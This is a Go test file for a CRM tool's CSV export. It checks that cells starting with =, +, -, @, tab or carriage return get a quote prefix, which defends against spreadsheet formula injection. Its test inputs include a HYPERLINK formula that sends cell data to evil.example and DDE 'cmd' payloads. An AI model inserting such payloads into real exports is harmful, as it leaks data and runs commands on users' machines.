package output

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/crm-course/crm/internal/crm"
)

func TestSpreadsheetSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Acme Ltd", "Acme Ltd"},
		{"上海华联", "上海华联"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"=1+2", "'=1+2"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"+86 138 0000 0000", "'+86 138 0000 0000"},
		{"-", "'-"},
		{"--", "'--"},
		{"-.", "'-."},
		{"-1e5", "'-1e5"},
		// Plain numbers are numbers, whatever the column.
		{"-12.50", "-12.50"},
		{"+5", "+5"},
		{"-.5", "-.5"},
		{"-0042", "-0042"},
		// Only the first character counts.
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"'=1", "'=1"},
	} {
		if got := SpreadsheetSafe(tc.in); got != tc.want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVSafe(t *testing.T) {
	link := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r := &Result{
		Columns: []Column{Col("name", "", ""), Col("phone", "", ""), NumCol("amount", "", ""), NumCol("n", "", ""),
			Col("due", "", ""), Col("segment", "", ""), NumCol("share", "", ""), Col("note", "", "")},
		Rows: [][]any{
			{link, "+86 138 0000 0000", crm.Money(-1250), -3, crm.Date(0), Label{Value: "@risk"}, Number("-0.25"), "a;=1+2"},
			{"Acme", "021-5555", crm.Money(100), 0, nil, Label{Value: "x"}, Number("1"), `say "hi"`},
		},
	}
	var def, safe, js, jsSafe bytes.Buffer
	if err := Write(&def, Options{Format: CSV}, r); err != nil {
		t.Fatal(err)
	}
	if err := Write(&safe, Options{Format: CSV, CSVSafe: true}, r); err != nil {
		t.Fatal(err)
	}
	// Without the flag: the bytes scripts have always read.
	wantDef := "name,phone,amount,n,due,segment,share,note\n" +
		`"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+86 138 0000 0000,-12.50,-3,1970-01-01,@risk,-0.25,a;=1+2` + "\n" +
		`Acme,021-5555,1.00,0,,x,1,"say ""hi"""` + "\n"
	if def.String() != wantDef {
		t.Errorf("default CSV:\n%s\nwant:\n%s", def.String(), wantDef)
	}
	wantSafe := `"name","phone","amount","n","due","segment","share","note"` + "\n" +
		`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","'+86 138 0000 0000","-12.50","-3","1970-01-01","'@risk","-0.25","a;=1+2"` + "\n" +
		`"Acme","021-5555","1.00","0","","x","1","say ""hi"""` + "\n"
	if safe.String() != wantSafe {
		t.Errorf("--csv-safe CSV:\n%s\nwant:\n%s", safe.String(), wantSafe)
	}
	// Still RFC 4180: a CSV reader gets the cells back, prefixed.
	recs, err := csv.NewReader(strings.NewReader(safe.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[1][0] != "'"+link || recs[1][2] != "-12.50" || recs[2][7] != `say "hi"` {
		t.Errorf("read back: %q", recs)
	}
	// A record (show commands) too; JSON is the same with or without.
	var rec bytes.Buffer
	if err := WriteRecord(&rec, Options{Format: CSV, CSVSafe: true}, &Record{Fields: []Field{{Key: "name", Value: "@x"}, {Key: "m", Value: crm.Money(-5)}}}); err != nil {
		t.Fatal(err)
	}
	if want := "\"name\",\"m\"\n\"'@x\",\"-0.05\"\n"; rec.String() != want {
		t.Errorf("record: %q, want %q", rec.String(), want)
	}
	Write(&js, Options{Format: JSON}, r)
	Write(&jsSafe, Options{Format: JSON, CSVSafe: true}, r)
	if js.String() != jsSafe.String() || !strings.Contains(js.String(), `"name": "=HYPERLINK(`) {
		t.Errorf("JSON changed by CSVSafe:\n%s", jsSafe.String())
	}
}
